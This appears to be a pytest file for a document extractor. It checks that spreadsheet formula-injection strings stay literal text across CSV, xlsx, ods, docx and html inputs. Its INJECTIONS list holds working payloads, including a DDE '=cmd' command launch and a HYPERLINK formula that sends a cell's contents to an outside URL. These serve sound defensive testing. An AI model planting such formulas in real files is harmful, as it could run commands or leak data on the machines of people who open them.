"""What a spreadsheet would compute or run stays text."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from core.documents import Document
from core.errors import Unprocessable
from tests.tasks.extractors.tricks.packages import build

Read = Callable[[Path], Document | Unprocessable]

INJECTIONS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=WEBSERVICE("http://example.org")',
    "%0A=1+1",
)


@pytest.mark.parametrize("injection", INJECTIONS)
def test_a_cell_of_text_is_kept_as_it_is(tmp_path: Path, read: Read, injection: str) -> None:
    path = tmp_path / "a.csv"
    quoted = injection.replace('"', '""')
    path.write_text(f'name,value\nfirst,"{quoted}"\nsecond,plain\n')
    outcome = read(path)
    assert isinstance(outcome, Document)
    assert injection in "\n".join(cell for element in outcome.elements for row in element.cells for cell in row)


@pytest.mark.parametrize("kind", ["xlsx", "ods", "odt", "docx", "html"])
def test_in_other_formats_too(tmp_path: Path, read: Read, kind: str) -> None:
    injection = "=cmd|' /C calc'!A0"
    outcome = read(build(tmp_path, kind, words=injection))
    assert isinstance(outcome, Document)
    assert injection in outcome.text.replace("\\|", "|")


def test_a_formula_shows_its_value_and_is_not_computed(tmp_path: Path, read: Read) -> None:
    path = tmp_path / "a.xlsx"
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["Name", "Sum"])
    sheet.append(["words", "=1234+1"])
    book.save(str(path))
    outcome = read(path)
    assert isinstance(outcome, Document)
    assert "1235" not in outcome.text
